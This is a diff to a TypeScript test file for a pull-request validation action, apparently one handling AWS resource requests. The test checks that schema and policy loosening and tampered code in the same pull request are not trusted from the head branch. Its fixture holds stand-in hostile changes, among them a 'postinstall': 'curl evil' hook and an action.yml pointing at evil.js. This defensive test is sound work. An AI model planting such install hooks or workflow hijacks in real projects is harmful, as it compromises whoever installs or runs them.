@@ -142,13 +142,14 @@ describe('an invalid request', () => {
     expect(statuses(9)['aws-requests/validation']).toEqual(['failure', '1 error in 1 file: see the pull-request comment.']);
   });
 
-  it('stays invalid when the same pull request loosens the schemas, and is labelled policy', async () => {
+  it('stays invalid when the same pull request loosens the schemas and the policy, and is labelled policy', async () => {
     const open = JSON.stringify({ $schema: 'https://json-schema.org/draft/2020-12/schema', $id: 'ec2-instance.schema.json', type: 'object' });
     github.addPull({
       number: 10,
       user: AUTHOR,
       files: [
         { filename: 'schemas/ec2-instance.schema.json', status: 'modified', text: open },
+        { filename: 'policy.yml', status: 'modified', text: sample('policy.yml').replace('maxFileBytes:', 'unknownField: true\n  maxFileBytes:'), baseText: sample('policy.yml') },
         { filename: 'dist/index.js', status: 'modified', text: 'process.exit(0)' },
         { filename: 'action.yml', status: 'modified', text: 'runs: {using: node24, main: evil.js}' },
         { filename: 'package.json', status: 'modified', text: '{"scripts": {"postinstall": "curl evil"}}' },
@@ -163,12 +164,15 @@ describe('an invalid request', () => {
     expect(readFileSync(spawnLog, 'utf8')).toBe('');
     rmSync(spawnLog);
     expect(result.stdout).toContain('has invalid requests');
-    expect(github.labelsOn(10).sort()).toEqual(['invalid', 'policy']);
+    expect(github.labelsOn(10).sort()).toEqual(['invalid', 'ois-approval-required', 'policy']);
     expect(statuses(10)['aws-requests/validation']![0]).toBe('failure');
-    // Only request files are read from the head: never the schemas, code, manifest or workflows.
-    const variables = github.requests.filter((r) => r.path === '/graphql').flatMap((r) => Object.values((r.body as { variables: Record<string, string> }).variables));
-    const paths = variables.filter((v) => v.includes(':')).map((v) => v.slice(v.indexOf(':') + 1));
-    expect(paths.filter((p) => !p.startsWith('requests/'))).toEqual([]);
+    // Only request files are read from the head, and policy.yml as data for the impact report: never the
+    // schemas, code, manifest or workflows. The requests are judged by the base branch's policy and schemas.
+    // (Blobs are read as `f` variables; `d` variables list folders, for file modes.)
+    const variables = github.requests.filter((r) => r.path === '/graphql').flatMap((r) => Object.entries((r.body as { variables: Record<string, string> }).variables));
+    const blobs = variables.filter(([name, v]) => name.startsWith('f') && v.includes(':')).map(([, v]) => v.slice(v.indexOf(':') + 1));
+    expect(blobs.filter((p) => !p.startsWith('requests/'))).toEqual(['policy.yml']);
+    expect(result.annotations).toContainEqual(expect.objectContaining({ level: 'error', file: 'requests/ex/ex-anything.yml', message: expect.stringContaining('Unknown field `anything`') }));
   });
 });
 
